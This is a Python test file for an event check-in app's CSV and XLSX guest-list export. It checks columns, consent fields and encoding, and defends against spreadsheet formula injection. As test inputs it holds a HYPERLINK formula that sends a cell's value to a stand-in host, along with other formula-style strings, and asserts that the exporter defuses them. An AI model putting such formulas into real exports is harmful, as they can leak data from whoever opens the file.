"""csv and xlsx: what a host finds when they open them."""

import csv
import io

import openpyxl
import pytest

from checkin.followup.export import export

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


def read_csv(path):
    """The rows as a spreadsheet sees them: a dictionary each."""
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_xlsx(path):
    book = openpyxl.load_workbook(path)
    try:
        headings, *rows = book.active.iter_rows(values_only=True)
    finally:
        book.close()
    return [
        dict(zip(headings, ("" if c is None else c for c in row), strict=True))
        for row in rows
    ]


READERS = {"csv": read_csv, "xlsx": read_xlsx}


@pytest.fixture(params=["csv", "xlsx"])
def saved(request, tmp_path):
    """Saves an audience and gives the rows, in both formats."""

    def save(evening, audience="everyone"):
        out = tmp_path / f"list.{request.param}"
        export(evening.event, out, audience)
        return READERS[request.param](out)

    return save


def test_a_guest_who_came_is_told_with_time_and_place(party, saved):
    zoe = next(row for row in saved(party) if row["First name"] == "Zoë")
    assert zoe == {
        "First name": "Zoë",
        "Last name": "New",
        "Full name": "Zoë New",
        "E-mail": "",
        "Company": "",
        "Job title": "",
        "Ticket type": "Guest",
        "Ticket code": "",
        "Status": "registered",
        "Came": "yes",
        "First arrival": "18:42",
        "Where": "Main door",
        "Pronouns": "",
        "Handle": "",
        "First time here": "yes",
        "May we write to you": "no",
    }


def test_who_did_not_come_has_no_time_and_no_place(party, saved):
    (hans,) = saved(party, "missed")
    assert (hans["Came"], hans["First arrival"], hans["Where"]) == ("no", "", "")


def test_every_row_says_whether_we_may_write(party, saved):
    answers = {row["Full name"]: row["May we write to you"] for row in saved(party)}
    assert answers["Anna Came"] == "yes"
    assert answers["Zoë New"] == "no"
    assert answers["Walker"] == "not asked"


def test_the_permission_is_there_when_nobody_was_asked(evening, saved):
    evening.guest(full_name="Ada")
    assert saved(evening)[0]["May we write to you"] == "not asked"


def test_the_own_columns_of_the_list_follow_in_their_order(evening, saved):
    header = evening.header("Dietary", "T-shirt", "Empty")
    evening.guest(full_name="Ada", extra=(header, ["vegan", "", ""]))
    evening.guest(full_name="Bob", extra=(header, ["", "XL", ""]))
    evening.guest(full_name="Cy")
    ada, bob, cy = saved(evening)
    assert list(ada)[-2:] == ["Dietary", "T-shirt"]
    assert (ada["Dietary"], bob["T-shirt"], cy["Dietary"]) == ("vegan", "XL", "")


def test_a_list_that_has_a_column_like_ours_keeps_both(evening, saved):
    header = evening.header("came", "Where")
    evening.comes(evening.guest(full_name="Ada", extra=(header, ["by bus", "Hall 2"])))
    (ada,) = saved(evening)
    assert (ada["Came"], ada["came (2)"]) == ("yes", "by bus")
    assert (ada["Where"], ada["Where (2)"]) == ("Main door", "Hall 2")


def test_columns_that_are_empty_for_everybody_are_left_out(evening, saved):
    evening.guest(full_name="Ada", phone="+44 20 7946 0000", note="by the window")
    (ada,) = saved(evening)
    assert "Phone" in ada
    assert "Notes" in ada
    assert "Plus one" not in ada


def test_an_evening_of_two_days_says_which(evening, saved):
    evening.comes(evening.guest(full_name="Ada"))
    evening.comes(evening.guest(full_name="Bob"), minutes=24 * 60)
    arrivals = [row["First arrival"] for row in saved(evening)]
    assert arrivals == ["2023-11-23 18:15", "2023-11-24 18:15"]


def test_a_code_keeps_its_noughts_and_a_handle_its_at(evening, tmp_path):
    evening.guest(
        full_name="Ada", external_code="0318204462", handle="@ada@example.org"
    )
    export(evening.event, tmp_path / "list.xlsx")
    (ada,) = read_xlsx(tmp_path / "list.xlsx")
    assert ada["Ticket code"] == "0318204462"
    assert ada["Handle"] == "@ada@example.org"


def test_nothing_in_a_workbook_is_a_formula_a_link_or_a_number(evening, tmp_path):
    header = evening.header("=1+1", "Site")
    evening.guest(
        first_name=FORMULA, company="42", extra=(header, ["+1", "https://example.org"])
    )
    export(evening.event, tmp_path / "list.xlsx")
    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert not any(cell.hyperlink for cell in cells)
    assert FORMULA in [cell.value for cell in cells]
    book.close()


def test_a_workbook_keeps_its_headings_in_sight_and_can_be_filtered(party, tmp_path):
    export(party.event, tmp_path / "list.xlsx")
    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:P7"
    assert all(cell.font.bold for cell in sheet[1])
    assert 8 <= sheet.column_dimensions["C"].width <= 41
    book.close()


@pytest.mark.parametrize("name", [FORMULA, "+44 20 7946", "-1", "@SUM(A1)", "＝1+1"])
def test_no_cell_of_a_csv_begins_like_a_formula(evening, tmp_path, name):
    evening.guest(full_name=name, company=name)
    export(evening.event, tmp_path / "list.csv")
    (row,) = read_csv(tmp_path / "list.csv")
    assert row["Company"] == f"'{name}"
    assert row["Full name"] == f"'{name}"


def test_a_heading_of_the_list_is_guarded_too(evening, tmp_path):
    evening.guest(full_name="Ada", extra=(evening.header("=1+1"), ["x"]))
    export(evening.event, tmp_path / "list.csv")
    (row,) = read_csv(tmp_path / "list.csv")
    assert row["'=1+1"] == "x"


def test_a_csv_is_utf_8_with_a_mark_and_lines_as_windows_ends_them(evening, tmp_path):
    evening.guest(full_name='Renée "Rae", née Žák', note="two\nlines")
    export(evening.event, tmp_path / "list.csv")
    content = (tmp_path / "list.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfFirst name,Last name,")
    assert content.endswith(b"\r\n")
    assert content.count(b"\r\n") == 2
    (row,) = read_csv(tmp_path / "list.csv")
    assert row["Full name"] == 'Renée "Rae", née Žák'
    assert row["Notes"] == "two\nlines"
